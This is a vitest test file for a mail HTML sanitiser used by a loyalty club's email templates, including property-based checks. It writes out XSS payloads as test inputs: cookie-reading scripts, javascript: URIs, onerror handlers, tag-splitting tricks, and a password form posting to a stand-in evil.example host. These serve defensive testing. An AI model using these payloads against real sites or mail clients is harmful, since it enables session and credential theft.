import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { repositoryRoot } from '../../config.js';
import { fixtureContentDir } from '../../testing/test-app.js';
import { mailSafeTags, sanitiseMailHtml, type MailLinkHosts } from './mail-html.js';

/** The club's mail HTML: an allow-list of tags and attributes, its own hosts' links and media only. */
const hosts: MailLinkHosts = {
  publicBaseUrl: 'https://club.example',
  publicRootDomain: 'club.example',
};
const clean = (html: string) => sanitiseMailHtml(html, hosts);

describe('sanitiseMailHtml', () => {
  it('keeps the simple markup of a mail, the link placeholders and the club’s own links', () => {
    const html =
      '<p dir="rtl">Hello {{firstName}},</p><h2>Points</h2><ul><li><strong>5</strong> &amp; <em>more</em></li></ul>' +
      '<p><a href="{{link}}">Confirm</a> or <a href="https://gr.club.example/ell/faq?x=1&amp;y=2">read the rules</a>.</p>' +
      '<table width="100%" cellpadding="4"><tr><td align="center" colspan="2">A cell</td></tr></table>' +
      '<p><img src="https://club.example/media/logo.png" alt="The club" width="120"><br></p>';
    expect(clean(html)).toEqual({ html, removed: [] });
  });

  it('removes scripts, styles, frames, forms, event handlers and comments, and says what went', () => {
    const result = clean(
      '<p onclick="steal()" style="background:url(https://tracker.example/p.gif)">Hi</p>' +
        '<script>alert(document.cookie)</script><style>p{color:red}</style>' +
        '<iframe src="https://evil.example/"></iframe>' +
        '<form action="https://evil.example/collect" method="post"><input name="password"><button>Send</button></form>' +
        '<!--[if mso]><a href="https://evil.example/">x</a><![endif]--><svg><a href="https://evil.example/">svg</a></svg>',
    );
    expect(result.html).toBe('<p>Hi</p>Send');
    expect(result.removed).toEqual([
      'the onclick attribute of <p>',
      'the style attribute of <p>',
      '<script> and its content',
      '<style> and its content',
      '<iframe> and its content',
      '<form> (its text is kept)',
      '<input> (its text is kept)',
      '<button> (its text is kept)',
      'a comment',
      '<svg> and its content',
    ]);
  });

  it('removes links to other sites and other schemes, keeping their text', () => {
    for (const href of [
      'https://evil.example/login',
      'https://club.example.evil.example/',
      'https://evilclub.example/',
      'https://www.gr.club.example/',
      'https://abc.club.example/',
      'https://user:pass@gr.club.example/',
      'https://gr.club.example:8443/',
      'javascript:alert(1)',
      'jav&#x61;script:alert(1)',
      'java\tscript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'mailto:someone@evil.example',
      '//evil.example/',
      '/faq',
      '{{support}}',
      '{{link}}x',
      'https://gr.club.example/?next={{link}}',
      '',
    ]) {
      const result = clean(`<p><a href="${href.replaceAll('"', '&quot;')}">Read</a></p>`);
      expect(result.html, href).toBe('<p><a>Read</a></p>');
      expect(result.removed, href).toHaveLength(1);
      expect(result.removed[0], href).toMatch(/^a link to .* \(its text is kept\)$/);
    }
  });

  it('decodes character references before checking a link, and writes the link as checked', () => {
    expect(clean('<a href="https&colon;&sol;&sol;gr.club.example/faq">x</a>').html).toBe(
      '<a href="https://gr.club.example/faq">x</a>',
    );
    expect(clean('<a href=" {{ loginLink }} ">x</a>').html).toBe('<a href="{{loginLink}}">x</a>');
    expect(clean("<a href='{{registrationLink}}'>x</a>").html).toBe(
      '<a href="{{registrationLink}}">x</a>',
    );
  });

  it('keeps only images of the club’s media', () => {
    for (const src of [
      'https://tracker.example/pixel.gif?member=1',
      'https://gr.club.example/s2c/auth/v1/agents/1',
      'https://club.example/media/../s2c/x.png',
      'data:image/png;base64,AAAA',
      '/media/logo.png',
      'cid:logo',
    ]) {
      const result = clean(`<p>A<img src="${src}" alt="x">B</p>`);
      expect(result.html, src).toBe('<p>AB</p>');
      expect(result.removed, src).toEqual([`an image from ${src}`]);
    }
    expect(clean('<img alt="no address">').removed).toEqual(['an image without an address']);
    // An element dropped with its content ends where it ends: `<svg/>` has none.
    expect(clean('<p>a<svg/>b</p><svg><p>c</p></svg><p>d</p>').html).toBe('<p>ab</p><p>d</p>');
    // Background images and sources by other attributes go with their attributes.
    expect(
      clean('<table background="https://tracker.example/bg.gif"><tr><td>x</td></tr></table>'),
    ).toEqual({
      html: '<table><tr><td>x</td></tr></table>',
      removed: ['the background attribute of <table>'],
    });
  });

  it('follows the configured port and base path, and without hosts keeps only placeholders', () => {
    const local = { publicBaseUrl: 'http://localhost:3000', publicRootDomain: 'localhost' };
    expect(
      sanitiseMailHtml(
        '<a href="http://gr.localhost:3000/faq">a</a><img src="http://localhost:3000/media/x.png">',
        local,
      ).removed,
    ).toEqual([]);
    expect(sanitiseMailHtml('<a href="http://gr.localhost/faq">a</a>', local).removed).toHaveLength(
      1,
    );
    const based = {
      publicBaseUrl: 'https://club.example/loyalty',
      publicRootDomain: 'club.example',
    };
    expect(
      sanitiseMailHtml('<img src="https://club.example/loyalty/media/x.png">', based).removed,
    ).toEqual([]);
    expect(sanitiseMailHtml('<img src="https://club.example/media/x.png">', based).removed).toEqual(
      ['an image from https://club.example/media/x.png'],
    );
    expect(
      sanitiseMailHtml('<a href="{{link}}">a</a><a href="https://club.example/">b</a>', undefined),
    ).toEqual({
      html: '<a href="{{link}}">a</a><a>b</a>',
      removed: ['a link to https://club.example/ (its text is kept)'],
    });
  });

  it('writes text and attribute values escaped, so nothing typed becomes markup', () => {
    expect(clean('1 < 2 > 0 & <p title="a &quot;b&quot; <c>">x</p>')).toEqual({
      html: '1 &lt; 2 &gt; 0 &amp; <p title="a &quot;b&quot; &lt;c&gt;">x</p>',
      removed: [],
    });
    // Tricks that split or hide a tag.
    for (const trick of [
      '<scr<script>ipt>alert(1)</script>',
      '<script/x>alert(1)</script>',
      '<SCRIPT>alert(1)</SCRIPT >',
      '<script>alert(1)',
      '<<p>p onclick=x>',
      '<p/onclick=alert(1)>',
      '<a href=javascript:alert(1)>x</a>',
      '<img src=x onerror=alert(1)//',
      '<!--><script>alert(1)</script>-->',
      '<![CDATA[<script>alert(1)</script>]]>',
      '<textarea></textarea><script>alert(1)</script>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<style><img src=x onerror=alert(1)></style>',
      '\u0000<script>alert(1)</script>',
    ]) {
      const { html } = clean(trick);
      expect(html, trick).not.toMatch(/<(script|img|style|textarea|noscript)/i);
      expect(html, trick).not.toMatch(/<[^>]*\son\w+=/i);
      expect(html, trick).not.toMatch(/href="javascript/i);
    }
  });

  it('is stable: what it writes passes again unchanged, and only allowed markup is written', () => {
    const keptAttributes = ['href', 'src', 'alt', 'title', 'dir', 'lang', 'align', 'width']
      .concat(['height', 'colspan', 'rowspan', 'valign', 'bgcolor', 'border', 'start'])
      .concat(['cellpadding', 'cellspacing']);
    const piece = fc.oneof(
      fc.constantFrom(
        ...['<p>', '</p>', '<a href="{{link}}">', '</a>', '<script>', '</script>', '<!--', '-->'],
        ...['<img src="https://club.example/media/a.png">', '<img src=x onerror=y>', '<b', '>'],
        ...['<style>', '</style>', '<svg>', '</svg>', '<iframe>', '"', "'", '=', '&', '&amp;'],
        ...['&#x3c;', '<a href="https://evil.example/">', '<td colspan=2>', '</', '<!', '<?x?>'],
      ),
      fc.string({ maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const once = clean(pieces.join(''));
        const twice = clean(once.html);
        expect(twice).toEqual({ html: once.html, removed: [] });
        // Every `<` written starts a tag of the list with quoted, known attributes.
        const tags = once.html.split('<').slice(1);
        for (const tag of tags) {
          const match = /^\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)>/.exec(tag);
          expect(match, tag).not.toBeNull();
          expect(mailSafeTags).toContain(match![1]);
          for (const [, name] of match![2]!.matchAll(/ ([a-z]+)=/g)) {
            expect(keptAttributes).toContain(name);
          }
        }
        expect(once.html).not.toMatch(/href="(?!\{\{link\}\}|https:\/\/club\.example\/)/);
      }),
      { seed: 0x6d61696c, numRuns: 300 },
    );
  });
});

describe('the shipped mail templates', () => {
  it.each([
    ['the demo content', join(repositoryRoot, 'content')],
    ['the test fixtures', fixtureContentDir],
  ])('in %s lose nothing', (_name, contentDir) => {
    const countriesDir = join(contentDir, 'countries');
    let checked = 0;
    for (const country of readdirSync(countriesDir)) {
      for (const file of readdirSync(join(countriesDir, country))) {
        if (file === 'country.json') continue;
        const json = JSON.parse(readFileSync(join(countriesDir, country, file), 'utf8')) as {
          texts?: Record<string, string>;
        };
        for (const [key, value] of Object.entries(json.texts ?? {})) {
          if (!/^mail\..+\.html$/.test(key)) continue;
          expect(sanitiseMailHtml(value, hosts).removed, `${country}/${file}: ${key}`).toEqual([]);
          checked += 1;
        }
      }
    }
    expect(checked).toBeGreaterThan(0);
  });
});
